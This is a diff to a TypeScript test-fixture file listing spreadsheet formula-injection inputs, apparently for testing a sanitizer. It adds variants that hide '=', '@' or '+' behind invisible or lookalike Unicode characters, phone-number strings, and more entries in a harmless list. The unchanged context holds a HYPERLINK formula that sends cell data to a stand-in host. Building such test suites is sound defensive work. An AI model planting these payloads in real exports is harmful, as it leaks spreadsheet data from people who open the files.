@@ -101,8 +101,31 @@ export const FORMULAS = [
   '＠1',
   '=HYPERLINK("http://a.example?"&A1,"x")',
   '-1-1-1-1-1-1-1',
+  // Behind what nobody sees: mark of byte order, of direction, joiner, hyphen, selector, accent, filler.
+  ...['\uFEFF', '\u200B', '\u200F', '\u202E', '\u2066', '\u00AD', '\uFE0F', '\u{E0100}', '\u0301'].map(
+    (one) => `${one}=1+1`,
+  ),
+  ...['\u3164', '\u115F', '\u2800', '\u180E', '\u{E0041}', ' \u200B\u00A0\u2060'].map((one) => `${one}@A1`),
+  '\u2212' + '1+1',
+  '\uFE66' + 'A1',
+  '\u207A' + '1',
+  // Phone numbers that a spreadsheet would calculate, or take for a number.
+  '+1-202-555-0143',
+  '+49/30/1234567',
+  '+491701234567',
 ];
 /** An answer as it is printed everywhere: every kind of line end is one. */
 export const printed = (value: string) => value.replace(/\r\n?/g, '\n');
 /** Left as they are (D-105). */
-export const HARMLESS = ['-5', '+3.14', '-1,234.50', '+49 30 1234567', '+1 (555) 010-0000', 'a=b', '1-2', ''];
+export const HARMLESS = [
+  '-5',
+  '+3.14',
+  '-1,234.50',
+  '+49 30 1234567',
+  '+1 (555) 010-0000',
+  '+41 44/123-45-67',
+  '+3.1415926',
+  'a=b',
+  '1-2',
+  '',
+];
